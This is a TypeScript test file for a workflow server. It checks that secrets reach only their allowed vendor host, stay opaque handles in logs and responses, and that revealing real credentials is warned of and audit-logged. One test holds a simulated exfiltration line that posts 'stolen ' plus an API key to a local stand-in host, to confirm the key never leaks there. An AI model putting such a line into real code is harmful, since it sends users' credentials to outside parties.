/** Steps of code in the real server: deployed, run, looked at; the vendor's stand-in judges what arrives. */
import { createHmac } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished, test } from 'vitest'
import { bellhop } from '../support/cli.ts'
import { post, world, type World } from '../support/world.ts'

interface Deployed {
  triggers: { url: string }[]
  token: string
  warnings: { path: string; message: string }[]
}

/** A vendor of an app that is in no catalogue: answers with what it got, and remembers it. */
async function vendor(): Promise<{ host: string; got: { authorization: string | undefined; body: string }[] }> {
  const got: { authorization: string | undefined; body: string }[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8')
    request.on('data', (chunk: string) => (body += chunk))
    request.on('end', () => {
      const { authorization } = request.headers
      got.push({ authorization, body })
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify({ authorization, body }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, got }
}

async function deploy(
  { server }: World,
  definition: { name: string; trigger: object; steps: object[]; settings?: object }
): Promise<Deployed> {
  const text = JSON.stringify(definition)
  const { status, body } = await server.api('PUT', `/workflows/${definition.name}`, text, 'application/json')
  expect([status, body]).toMatchObject([201, { name: definition.name }])
  return body as Deployed
}

async function call({ triggers: [trigger], token }: Deployed, body: unknown, headers = {}) {
  return post(trigger?.url ?? '', body, { authorization: `Bearer ${token}`, ...headers })
}

const TRIGGER = { type: 'http', auth: { type: 'token' }, respond: 'last_step' }

function parcels(host: string, run: string): string {
  return `export default defineComponent({
    props: { parcels: { type: 'app', app: 'parcels' } },
    async run({ steps, $ }: any) {
      const send = (body: string, headers: Record<string, string> = {}) =>
        fetch('http://${host}/', { method: 'POST', headers, body })
      ${run}
    }
  })`
}

const KEY = 'the-key-of-ada-a8f3'

test('a runtime credential goes through code to its vendor, and stays a handle everywhere else', async () => {
  const house = await world()
  const { host, got } = await vendor()
  const code = parcels(
    host,
    `console.log('key %s of %s', this.parcels.$auth.api_key, process.env.REGION)
     $.export('$summary', 'sent with ' + this.parcels.$auth.api_key)
     const answer = await send('hello', { authorization: 'Bearer ' + this.parcels.$auth.api_key })
     return answer.json()`
  )
  const deployed = await deploy(house, {
    name: 'send',
    trigger: TRIGGER,
    steps: [
      {
        name: 'send',
        code,
        language: 'typescript',
        auth: { parcels: { runtime: { api_key: '{{steps.trigger.event.body.key}}' }, hosts: [host] } }
      },
      { name: 'after', code: 'export default ({ steps }) => steps.send.$return_value' }
    ],
    settings: { egress: [host], env: { REGION: 'eu' } }
  })
  for (const headers of [{}, { 'x-pd-nostore': '1' }]) {
    const answer = await call(deployed, { key: KEY }, headers)
    expect(answer).toMatchObject({ status: 200, body: { body: 'hello' } })
    expect(JSON.stringify(answer.body)).toMatch(/bhdl\.parcels\.api_key\./)
  }
  expect(got).toEqual([
    { authorization: `Bearer ${KEY}`, body: 'hello' },
    { authorization: `Bearer ${KEY}`, body: 'hello' }
  ])
  const { body } = (await house.server.api('GET', '/runs')) as { body: { runs: { id: string }[] } }
  expect(body.runs).toHaveLength(1)
  const run = await house.server.api('GET', `/runs/${body.runs[0]?.id}`)
  const shown = JSON.stringify(run.body)
  expect(shown).toMatch(/key bhdl\.parcels\.api_key\.\w+ of eu/)
  expect(shown).not.toContain(KEY)
})

test('a syntax error refuses the deploy with file, line and column', async () => {
  const house = await world()
  const text = JSON.stringify({
    name: 'broken',
    trigger: TRIGGER,
    steps: [{ name: 'broken', file: './broken.ts', code: 'export default () => {\n  return 1 +\n}' }]
  })
  const { status, body } = await house.server.api('PUT', '/workflows/broken', text, 'application/json')
  expect(status).toBe(422)
  expect(JSON.stringify(body)).toMatch(/broken\.ts:3:1/)
})

test('an error fails the step with its message, and its stack is in the lines that the author wrote', async () => {
  const house = await world()
  const code = `type Customer = { name: string }

  function fail(customer: Customer): never {
    throw new RangeError('no ' + customer.name)
  }
  export default ({ steps }: any) => fail(steps.trigger.event.body)`
  const deployed = await deploy(house, {
    name: 'fail',
    trigger: TRIGGER,
    steps: [{ name: 'fail', code, file: './fail.ts', language: 'typescript' }]
  })
  const answer = await call(deployed, { name: 'Ada' })
  expect(answer).toMatchObject({ status: 500, body: { code: 'code_failed' } })
  const { body } = (await house.server.api('GET', '/runs')) as { body: { runs: { id: string }[] } }
  const run = JSON.stringify((await house.server.api('GET', `/runs/${body.runs[0]?.id}`)).body)
  expect(run).toContain('RangeError: no Ada')
  expect(run).toContain('fail (fail.ts:4:11)')
})

test('a secret of the environment goes where its keeper says, and is a handle in code', async () => {
  const house = await world()
  const { host, got } = await vendor()
  const env = { BELLHOP_SERVER: house.server.url, BELLHOP_DATA: house.data }
  const set = await bellhop(['env', 'set', 'PARCELS_KEY', '--host', host, '--header', 'Authorization'], {
    env,
    input: 'a-secret-of-the-environment\n'
  })
  expect(set).toMatchObject({ code: 0, stdout: expect.stringContaining('set PARCELS_KEY') as string })
  const code = `export default async () => {
    const headers = { authorization: 'Bearer ' + process.env.KEY }
    const answer = await fetch('http://${host}/', { method: 'POST', headers, body: 'x' })
    const other = await fetch('http://${host}/', { method: 'POST', headers: { 'x-key': process.env.KEY } })
    return { handle: process.env.KEY, status: answer.status, other: other.status }
  }`
  const deployed = await deploy(house, {
    name: 'env',
    trigger: TRIGGER,
    steps: [{ name: 'call', code }],
    settings: { egress: [host], env: { KEY: { secret: 'PARCELS_KEY' } } }
  })
  expect(deployed.warnings).toEqual([])
  const answer = await call(deployed, { note: 'holds a-secret-of-the-environment' })
  expect(answer.body).toEqual({
    handle: expect.stringMatching(/^bhdl\.env\.parcels_key\./) as string,
    status: 200,
    other: 403
  })
  expect(got).toEqual([{ authorization: 'Bearer a-secret-of-the-environment', body: 'x' }])
  const { stdout } = await bellhop(['env'], { env })
  expect(stdout).toMatch(/^PARCELS_KEY +127\.0\.0\.1:\d+ +header authorization$/m)
  const runs = (await house.server.api('GET', '/runs')).body as { runs: { id: string }[] }
  const run = JSON.stringify((await house.server.api('GET', `/runs/${runs.runs[0]?.id}`)).body)
  expect(run).not.toContain('a-secret-of-the-environment')

  expect(await bellhop(['env', 'remove', 'PARCELS_KEY'], { env })).toMatchObject({ code: 0 })
  expect(await call(deployed, {})).toMatchObject({ status: 500, body: { code: 'env_secret_missing' } })
})

test('`reveal` gives real values to sign with, warned of, shown by the run, and in the audit log', async () => {
  const house = await world()
  const { host, got } = await vendor()
  const elsewhere = await vendor()
  const code = `import { createHmac } from 'node:crypto'
  export default {
    props: { parcels: { type: 'app', app: 'parcels' } },
    async run() {
      const { api_key } = this.parcels.$auth
      const signature = createHmac('sha256', api_key).update('x').digest('hex')
      await fetch('http://${host}/', { method: 'POST', headers: { authorization: api_key }, body: signature })
      await fetch('http://${elsewhere.host}/', { method: 'POST', body: 'stolen ' + api_key })
      return { signature, api_key }
    }
  }`
  const deployed = await deploy(house, {
    name: 'sign',
    trigger: TRIGGER,
    steps: [
      {
        name: 'sign',
        reveal: true,
        code,
        auth: { parcels: { runtime: { api_key: '{{steps.trigger.event.body.key}}' }, hosts: [host] } }
      }
    ],
    settings: { egress: [host, elsewhere.host] }
  })
  expect(deployed.warnings).toMatchObject([{ path: 'steps[0].reveal' }])
  const signature = createHmac('sha256', KEY).update('x').digest('hex')
  const answer = await call(deployed, { key: KEY })
  expect(answer).toMatchObject({ status: 200, body: { signature } })
  expect(JSON.stringify(answer.body)).not.toContain(KEY)
  expect(got).toEqual([{ authorization: KEY, body: signature }])
  expect(JSON.stringify(elsewhere.got)).not.toContain(KEY)
  const { body } = (await house.server.api('GET', '/runs')) as { body: { runs: { id: string }[] } }
  const run = JSON.stringify((await house.server.api('GET', `/runs/${body.runs[0]?.id}`)).body)
  expect(run).toContain('real credentials (reveal: true): parcels.api_key')
  expect(run).not.toContain(KEY)
  const env = { BELLHOP_SERVER: house.server.url, BELLHOP_DATA: house.data }
  const { stdout } = await bellhop(['audit'], { env })
  expect(stdout).toMatch(new RegExp(`revealed +sign v1 +sign +parcels.api_key +${body.runs[0]?.id}`))
  expect(stdout).toMatch(/deployed +sign v1 +sign +parcels.api_key/)

  const refused = await call(deployed, { key: KEY }, { 'x-pd-nostore': '1' })
  expect(refused).toMatchObject({ status: 422, body: { code: 'nostore_cannot_reveal' } })
})

test('a form asks the code for choices and more props, with credentials that are kept nowhere', async () => {
  const house = await world()
  const { host, got } = await vendor()
  const code = `const parcels = {
    type: 'app',
    app: 'parcels',
    propDefinitions: {
      depot: {
        type: 'string',
        async options({ page, query, region }) {
          const headers = { authorization: 'Bearer ' + this.$auth.api_key }
          const answer = await fetch('http://${host}/', { method: 'POST', headers, body: region })
          return { options: [{ label: query + page, value: (await answer.json()).authorization }], context: { next: 2 } }
        }
      }
    }
  }
  export default defineComponent({
    props: {
      parcels,
      region: { type: 'string', reloadProps: true },
      depot: { propDefinition: [parcels, 'depot', ({ region }) => ({ region })] }
    },
    additionalProps() {
      if (this.region === 'nowhere') throw new Error('no ' + this.parcels.$auth.api_key)
      return this.region === 'eu' ? { vat: { type: 'string', label: 'VAT' } } : {}
    },
    run() {}
  })`
  const auth = { parcels: { runtime: { api_key: '{{steps.trigger.event.body.key}}' }, hosts: [host] } }
  await deploy(house, {
    name: 'form',
    trigger: TRIGGER,
    steps: [{ name: 'send', code, auth, props: { region: 'eu', depot: 'a' } }],
    settings: { egress: [host] }
  })
  const ask = (what: string, body: object) =>
    house.server.api('POST', `/workflows/form/steps/send/${what}`, JSON.stringify(body), 'application/json')
  const given = { auth: { parcels: { fields: { api_key: KEY } } }, props: { region: 'eu' } }
  const options = await ask('options', { ...given, prop: 'depot', page: 1, query: 'x' })
  expect(options).toMatchObject({ status: 200, body: { options: [{ label: 'x1' }], context: { next: 2 } } })
  expect(got).toEqual([{ authorization: `Bearer ${KEY}`, body: 'eu' }])
  expect(await ask('props', given)).toMatchObject({
    status: 200,
    body: { props: { vat: { kind: 'input', type: 'string', label: 'VAT' } } }
  })
  const failed = await ask('props', { ...given, props: { region: 'nowhere' } })
  expect(failed).toMatchObject({ status: 422, body: { code: 'code_failed' } })
  expect(JSON.stringify([options.body, failed.body])).not.toContain(KEY)
  expect(await ask('options', { prop: 'region' })).toMatchObject({ status: 422 })
  expect(await house.server.api('GET', '/runs')).toMatchObject({ body: { runs: [] } })
})
